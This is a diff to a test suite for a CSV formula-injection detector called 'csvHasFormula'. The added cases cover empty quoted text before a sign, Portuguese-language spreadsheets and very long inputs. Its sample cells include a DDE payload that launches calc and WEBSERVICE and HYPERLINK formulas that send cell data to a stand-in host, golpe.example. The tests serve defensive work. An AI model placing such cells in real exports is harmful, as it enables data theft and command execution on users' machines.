@@ -42,6 +42,9 @@ describe('csvHasFormula: cells a spreadsheet would run', () => {
     ['a remote call followed by a word', 'pedido;link\n1062;+WEBSERVICE("http://golpe.example/?c="&B2) x\n'],
     ['a function in capitals closing the cell', 'pedido;total\n1063;-SUM(A1:A3)\n'],
     ['a function in capitals, nested, then an operator', 'pedido;total\n1064;+ROUND(SUM(A1:A3),2)*2\n'],
+    // An empty quoted text before the sign (red team 53): not read as a quoted text "=…".
+    ['an empty quoted text before an equals sign', 'pedido;link\n1069;""=HYPERLINK("http://golpe.example/login")\n'],
+    ['an empty quoted text before a DDE link', 'pedido;valor\n1070;""-2+cmd|\' /C calc\'!A0\n'],
     // Excel in pt-BR reads its own names in a CSV it opens.
     ['a pt-BR remote call in capitals', 'pedido;cliente\n1066;-SERVIÇOWEB("http://golpe.example/?c="&B2)\n'],
     [
@@ -80,6 +83,7 @@ describe('csvHasFormula: cells a spreadsheet would run', () => {
       'a list with accented words and brackets',
       'pedido;itens\n1;- opção(ões) esgotada(s)\n2;- 2 imagem(ns) anexada(s)\n',
     ],
+    ['quoted text that starts with a quote', 'nota\n"""Frete grátis"" = promoção"\n'],
     ['a list in capitals', 'pedido;itens\n1;- PRODUTO(S) SEM ESTOQUE\n2;+ BRINDE(S) NA CAIXA\n3;-CAMISETA(P) AZUL\n'],
     ['a quoted list with brackets and separators', 'pedido;nota\n88;"- produto(s) sem estoque; aguardando"\n'],
     ['a tab-separated list with brackets', 'pedido\tvalor\tobs\n1\t-19,90\t- produto(s) sem estoque\n'],
@@ -118,6 +122,7 @@ describe('csvHasFormula: bounded work on hostile shapes', () => {
     ['a sign before a quoted cell as long as an upload', `+"${'a'.repeat(10_000_000)}"\n`],
     ['quoted signed cells, one after another', `${';"+a'.repeat(1_000_000)}\n`],
     ['signed cells whose quotes never close', `${'"-'.repeat(1_000_000)}`],
+    ['signed cells after empty quoted texts', `${';""-a'.repeat(1_000_000)}\n`],
     ['lists in capitals on one line', `${';- PRODUTO(S) SEM ESTOQUE'.repeat(300_000)}\n`],
     ['a bracket closed before a run of spaces', `-X(S)${' '.repeat(2_000_000)}x\n`],
   ])('%s: no formula, read in linear time', (_name, text) => {
